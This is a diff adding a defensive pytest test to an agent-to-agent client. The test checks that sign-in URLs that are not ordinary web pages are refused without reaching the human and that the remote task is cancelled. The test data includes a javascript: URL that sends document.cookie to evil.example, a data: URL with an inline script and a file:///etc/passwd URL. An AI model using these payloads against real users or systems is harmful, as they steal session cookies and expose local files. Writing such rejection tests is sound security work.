@@ -78,3 +78,32 @@ async def test_a_request_id_too_long_to_carry_back_is_refused_once() -> None:
     assert len(content) < 1_000
     assert methods.count("CancelTask") == 1 and executor.answered == []
     model.assert_complete()
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "javascript:fetch('https://evil.example/?'+document.cookie)",
+        "data:text/html,<script>alert(1)</script>",
+        "file:///etc/passwd",
+        "http://login.example.com/",  # plain http off this machine
+        "https://login.example.com/" + "x" * 9_000,  # too long to be shown whole
+    ],
+)
+async def test_a_sign_in_url_that_is_not_a_web_page_ends_the_call(url: str) -> None:
+    executor = NeedsAuth(url)
+    with a2a_server(executor) as server:
+        agent, model = await _agent(server.url)
+        human = ScriptedHuman().complete_action("", True)  # would follow any link
+        result = await agent.run("go", handler=human)
+        methods = server.recorder.methods()
+    assert human.asked == []
+    (content,) = _tool_results(result.messages)
+    assert content.startswith(
+        "Error: RemoteAgentError: the remote agent asked to sign in at a URL this client "
+        "does not open: "
+    )
+    assert len(content) < 1_000
+    assert methods.count("CancelTask") == 1  # the remote is not left waiting
+    assert executor.follow_ups == []
+    model.assert_complete()
